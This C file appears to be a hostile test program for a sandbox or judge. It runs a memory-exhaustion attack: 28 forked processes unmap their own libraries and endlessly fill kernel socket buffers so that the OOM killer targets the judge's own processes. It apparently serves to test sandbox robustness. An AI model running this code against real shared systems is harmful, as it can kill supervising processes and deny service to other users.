/* expect: memory
 * only: cgroup
 * When a group is out of memory the kernel kills the largest process in it. All that this one uses
 * is the kernel's, in sockets, and it throws away its own libraries: the largest then may be the
 * init or whoever else of the judge sits in the group. */
#include <hostile.h>
#include <sys/socket.h>
#include <time.h>
static struct {
    unsigned long from, to;
} ranges[256];
static int n_ranges;
static char block[4096];
static long call(long nr, long a, long b, long c, long d)
{
    long rc;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(rc)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return rc;
}
static void list_libraries(void)
{
    static char line[512];
    FILE *f = fopen("/proc/self/maps", "r");
    while (f != NULL && n_ranges < 256 && fgets(line, sizeof line, f) != NULL)
        if (strstr(line, ".so") != NULL &&
            sscanf(line, "%lx-%lx", &ranges[n_ranges].from, &ranges[n_ranges].to) == 2)
            n_ranges++;
}
static void __attribute__((noinline, noreturn, optimize("no-stack-protector"))) hold(void)
{
    int p[2];
    struct timespec t = {1, 0};
    for (int i = 0; i < n_ranges; i++)
        call(SYS_munmap, (long)ranges[i].from, (long)(ranges[i].to - ranges[i].from), 0, 0);
    for (;;) {
        if (call(SYS_socketpair, AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, (long)p) != 0)
            call(SYS_nanosleep, (long)&t, 0, 0, 0);
        else
            for (int k = 0; k < 2; k++)
                while (call(SYS_write, p[k], (long)block, sizeof block, 0) > 0)
                    ;
    }
}
int main(void)
{
    list_libraries();
    for (int i = 0; i < 28; i++)
        if (fork() == 0)
            hold();
    hold();
}
